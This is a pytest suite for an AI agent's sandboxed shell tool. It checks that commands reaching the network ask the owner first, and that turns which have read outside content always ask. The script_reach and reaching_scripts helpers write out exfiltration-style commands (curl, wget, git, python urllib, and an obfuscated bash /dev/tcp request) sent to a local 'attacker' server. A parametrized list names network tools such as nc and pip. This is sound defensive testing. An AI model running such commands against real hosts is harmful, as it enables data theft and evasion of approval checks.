"""Network from the shell is one rule (issue 36): an attacker's HTTP server on 127.0.0.1
records every request, and real commands run through the shell tool under bubblewrap and
under Landlock. At supervised nothing reaches it unless the owner approved a command that
says it would run with network access; a script the owner let run finds no network; in a
tainted turn every level asks before the network, naming what was read; an untainted turn
at full still reaches it."""

from __future__ import annotations

import asyncio
import os
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from attack_world import SANDBOXES, Buttons, Owner, needs_sandbox

from agent.app import open_store
from agent.durable.always_allowed import AlwaysAllowed
from agent.runtime.approvals import chat_approver
from channels.base import ChatRef
from tools.base import ASK_EACH_TIME, ToolCallContext, ToolResult
from tools.config import SecuritySettings, ShellSettings
from tools.policy import SecurityPolicy
from tools.sandbox.sandboxes import Landlock, choose_sandbox
from tools.shell.network import reaches_network
from tools.shell.shell_tool import ShellTool
from tools.taint import Taint

PAGE = "example.org/page"


class Attacker:
    """An HTTP server that keeps the path of every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def got(self, marker: str) -> bool:
        return any(marker in path for path in self.paths)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "home" / "workspace"
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_text("buy milk\nalarm code 4711\n")
    return folder.resolve()


@pytest.fixture(params=SANDBOXES)
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def script_reach(port: int, mark: str) -> dict[str, str]:
    """The five ways out the issue found, each sending `mark` in its path."""
    url = f"http://127.0.0.1:{port}"
    tcp = (  # bash's /dev/tcp, its path put together only when the command runs
        f'p=/dev/tc; exec 3<>"${{p}}p/127.0.0.1/{port}"; '
        f'printf "GET /{mark}-bash HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'
    )
    return {
        "curl": f"curl -s -m 5 {url}/{mark}-curl",
        "wget": f"wget -q -T 5 -t 1 -O- {url}/{mark}-wget",
        "git": f"git ls-remote {url}/{mark}-git/notes",
        "python": (
            f"python3 -c \"import urllib.request as u; u.urlopen('{url}/{mark}-python', "
            'timeout=5)"'
        ),
        "bash": f"bash -c '{tcp}'",
    }


WAYS = ["curl", "wget", "git", "python", "bash"]


async def shell(
    workspace: Path,
    kind: str,
    command: str,
    *,
    autonomy: str = "supervised",
    owner: Owner | None = None,
    taint: Taint | None = None,
    network: bool = True,
) -> ToolResult:
    """`command` through the real shell tool with the default allowed commands (git among
    them), in the owner's private turn; `taint`: what the turn has read."""
    security = SecuritySettings(autonomy=autonomy)  # type: ignore[arg-type]
    policy = SecurityPolicy.from_settings(security, workspace, home=workspace.parent)
    sandbox = choose_sandbox(kind)  # type: ignore[arg-type]
    tool = ShellTool(policy, ShellSettings(timeout_s=20), sandbox, network=network)
    call = ToolCallContext(workspace, approve=owner, owner_private=True, taint=taint or Taint())
    return await tool.run({"command": command}, call)


def tainted() -> Taint:
    taint = Taint()
    taint.read(PAGE)
    return taint


@pytest.mark.parametrize("way", ["curl", "wget", "git"])
async def test_supervised_network_programs_ask_and_deny_reaches_nothing(
    attacker: Attacker, workspace: Path, kind: str, way: str
) -> None:
    command = script_reach(attacker.port, "denied")[way]
    owner = Owner(answer=False)
    result = await shell(workspace, kind, command, owner=owner)
    assert not result.ok and result.output.startswith("Not run"), result.output
    assert attacker.paths == []
    [request] = owner.asked
    assert "reaches the network: approved, it runs with network access" in request.reason
    assert any(rule.startswith("shell:network:") for rule in request.rules)


@pytest.mark.parametrize("way", ["curl", "wget", "git"])
async def test_supervised_network_programs_approved_reach_the_server(
    attacker: Attacker, workspace: Path, kind: str, way: str
) -> None:
    command = script_reach(attacker.port, "approved")[way]
    owner = Owner(answer=True)
    await shell(workspace, kind, command, owner=owner)
    assert len(owner.asked) == 1
    assert attacker.got(f"approved-{way}"), attacker.paths


@pytest.mark.parametrize("way", ["python", "bash"])
async def test_supervised_interpreters_are_refused_without_a_question(
    attacker: Attacker, workspace: Path, kind: str, way: str
) -> None:
    owner = Owner(answer=True)
    result = await shell(workspace, kind, script_reach(attacker.port, "x")[way], owner=owner)
    assert not result.ok and result.output.startswith("Refused"), result.output
    assert owner.asked == [] and attacker.paths == []


def reaching_scripts(workspace: Path, port: int) -> dict[str, str]:
    """A Python script and a bash script in the workspace that reach the server; each says
    it ran first."""
    url = f"http://127.0.0.1:{port}"
    scripts = {
        "reach.py": (
            "#!/usr/bin/python3\nimport urllib.request\nprint('ran', flush=True)\n"
            f"urllib.request.urlopen('{url}/script-python', timeout=5)\n"
        ),
        "reach.sh": (
            "#!/bin/bash\necho ran\np=/dev/tc\n"
            f'exec 3<>"${{p}}p/127.0.0.1/{port}"\n'
            "printf 'GET /script-tcp HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n"
        ),
    }
    for name, text in scripts.items():
        (workspace / name).write_text(text)
        (workspace / name).chmod(0o755)
    return {name: f"./{name}" for name in scripts}


@pytest.mark.parametrize("script", ["reach.py", "reach.sh"])
async def test_an_approved_script_runs_without_the_network(
    attacker: Attacker, workspace: Path, kind: str, script: str
) -> None:
    """The owner let it run, not reach out: the question did not say network, so the
    sandbox has none. The control: the same script run by the owner reaches the server."""
    command = reaching_scripts(workspace, attacker.port)[script]
    owner = Owner(answer=True)
    result = await shell(workspace, kind, command, owner=owner)
    assert "ran" in result.output and not result.ok, result.output
    assert "network" not in owner.reasons
    assert attacker.paths == []
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}  # no proxy variables
    await asyncio.to_thread(
        subprocess.run, [command], cwd=workspace, env=env, capture_output=True, timeout=30
    )
    assert attacker.paths and attacker.paths[0].startswith("/script-"), attacker.paths


async def test_plain_commands_run_without_a_question(workspace: Path, kind: str) -> None:
    owner = Owner(answer=False)
    listing = await shell(workspace, kind, "ls", owner=owner)
    count = await shell(workspace, kind, "wc -l notes.txt", owner=owner)
    assert listing.ok and "notes.txt" in listing.output
    assert count.ok and "2 notes.txt" in count.output
    assert owner.asked == []


@pytest.mark.parametrize("way", WAYS)
async def test_a_tainted_turn_at_full_asks_and_denied_reaches_nothing(
    attacker: Attacker, workspace: Path, kind: str, way: str
) -> None:
    command = script_reach(attacker.port, "tainted")[way]
    owner = Owner(answer=False)
    result = await shell(workspace, kind, command, autonomy="full", owner=owner, taint=tainted())
    assert not result.ok and result.output.startswith("Not run"), result.output
    assert attacker.paths == []
    [request] = owner.asked
    assert f"network access after reading {PAGE}" in request.reason
    assert all(rule.startswith(ASK_EACH_TIME) for rule in request.rules)
    assert request.owner_only


@pytest.mark.parametrize("way", WAYS)
async def test_a_tainted_turn_at_full_approved_reaches_the_server(
    attacker: Attacker, workspace: Path, kind: str, way: str
) -> None:
    command = script_reach(attacker.port, "yes")[way]
    owner = Owner(answer=True)
    await shell(workspace, kind, command, autonomy="full", owner=owner, taint=tainted())
    assert len(owner.asked) == 1 and attacker.got(f"yes-{way}"), attacker.paths


@pytest.mark.parametrize("way", WAYS)
async def test_an_untainted_turn_at_full_still_reaches_the_server(
    attacker: Attacker, workspace: Path, kind: str, way: str
) -> None:
    owner = Owner(answer=False)
    command = script_reach(attacker.port, "legit")[way]
    await shell(workspace, kind, command, autonomy="full", owner=owner)
    assert owner.asked == [] and attacker.got(f"legit-{way}"), attacker.paths


async def test_sandbox_network_off_holds_at_full(
    attacker: Attacker, workspace: Path, kind: str
) -> None:
    """The owner's `[security] sandbox_network = false` is not undone by an approval."""
    command = script_reach(attacker.port, "off")["python"]
    owner = Owner(answer=True)
    await shell(workspace, kind, command, autonomy="full", owner=owner, network=False)
    await shell(
        workspace, kind, command, autonomy="full", owner=owner, taint=tainted(), network=False
    )
    assert attacker.paths == [] and len(owner.asked) == 1
    assert "without network" in owner.reasons


async def test_a_tainted_turn_at_supervised_asks_naming_the_source(
    attacker: Attacker, workspace: Path, kind: str
) -> None:
    taint, owner = tainted(), Owner(answer=True)
    listing = await shell(workspace, kind, "ls", owner=owner, taint=taint)
    assert listing.ok and owner.asked == []  # what ran without asking still does, offline
    git = script_reach(attacker.port, "sup")["git"]
    await shell(workspace, kind, git, owner=owner, taint=taint)
    [request] = owner.asked
    assert f"network access after reading {PAGE}" in request.reason
    assert all(rule.startswith(ASK_EACH_TIME) for rule in request.rules)
    assert attacker.got("sup-git")
    script = reaching_scripts(workspace, attacker.port)["reach.py"]
    ran = await shell(workspace, kind, script, owner=owner, taint=taint)
    assert "ran" in ran.output and f"asked each time after reading {PAGE}" in owner.reasons
    assert not attacker.got("script-")


@needs_sandbox
async def test_read_only_refuses_a_network_program(attacker: Attacker, workspace: Path) -> None:
    kind = SANDBOXES[0]
    git = script_reach(attacker.port, "ro")["git"]
    refused = await shell(workspace, kind, git, autonomy="read_only", owner=Owner(True))
    assert not refused.ok and "reaches the network" in refused.output
    assert attacker.paths == []
    assert (await shell(workspace, kind, "ls", autonomy="read_only")).ok


@needs_sandbox
async def test_always_allow_in_a_tainted_turn_remembers_nothing(
    attacker: Attacker, workspace: Path, tmp_path: Path
) -> None:
    always = AlwaysAllowed((await open_store(tmp_path / "state.db")).db, workspace)
    buttons = Buttons()
    approve = chat_approver(
        buttons,  # type: ignore[arg-type]
        ChatRef("telegram", "42"),
        lambda *_: True,
        always=always,
        timeout_s=5,
    )
    security = SecuritySettings()
    policy = SecurityPolicy.from_settings(security, workspace, home=workspace.parent)
    tool = ShellTool(policy, ShellSettings(timeout_s=20), choose_sandbox(SANDBOXES[0]))  # type: ignore[arg-type]
    command = {"command": script_reach(attacker.port, "always")["curl"]}
    dirty = ToolCallContext(workspace, approve=approve, owner_private=True, taint=tainted())
    for _ in range(2):
        await tool.run(command, dirty)
    assert len(buttons.questions) == 2 and await always.rules() == []
    named = ("after reading example.org/page", "after reading example[.]org/page")  # defanged
    assert all(any(name in q for name in named) for q in buttons.questions), buttons.questions
    clean = ToolCallContext(workspace, approve=approve, owner_private=True)
    for _ in range(2):  # the control: an untainted turn's "Always allow" is remembered
        await tool.run(command, clean)
    assert len(buttons.questions) == 3
    assert set(await always.rules()) == {"shell:curl", "shell:network:curl"}
    await tool.run(command, dirty)  # and a tainted turn is asked all the same
    assert len(buttons.questions) == 4
    assert len([p for p in attacker.paths if "always-curl" in p]) == 5


@needs_sandbox
async def test_landlock_before_abi_4_still_runs_commands(workspace: Path) -> None:
    """Landlock before ABI 4 cannot take the network away: commands run as the setting
    says (the questions are the line there) instead of failing."""
    if "landlock" not in SANDBOXES:
        pytest.skip("no Landlock here")
    security = SecuritySettings()
    policy = SecurityPolicy.from_settings(security, workspace, home=workspace.parent)
    tool = ShellTool(policy, ShellSettings(), Landlock(3, "test"))
    result = await tool.run({"command": "ls"}, ToolCallContext(workspace, owner_private=True))
    assert result.ok and "notes.txt" in result.output


@pytest.mark.parametrize(
    ("command", "reaching"),
    [
        ("curl -s x", "curl"),
        ("/usr/bin/wget x", "wget"),
        ("pip3.11 install x", "pip3.11"),
        ("nc -l 80", "nc"),
        ("dig example.org", "dig"),
        ("git -C sub fetch origin", "git fetch"),
        ("git clone http://x/y", "git clone"),
        ("git push", "git push"),
        ("git remote update", "git remote update"),
        ("git remote show origin", "git remote show"),
        ("git remote show -n origin", None),
        ("git remote -v", None),
        ("git submodule update --init", "git submodule update"),
        ("git submodule status", None),
        ("git status", None),
        ("git log -p", None),
        ("ls -la", None),
        ("python3 x.py", None),  # its sandbox answers, not its words
    ],
)
def test_which_commands_reach_the_network(command: str, reaching: str | None) -> None:
    program, *args = command.split()
    assert reaches_network(program, args) == reaching


def test_the_server_is_there(attacker: Attacker) -> None:
    """The control for every 'reached nothing': the server answers a request."""
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with pytest.raises(urllib.error.HTTPError):
        opener.open(f"http://127.0.0.1:{attacker.port}/control", timeout=5)
    assert attacker.paths == ["/control"]
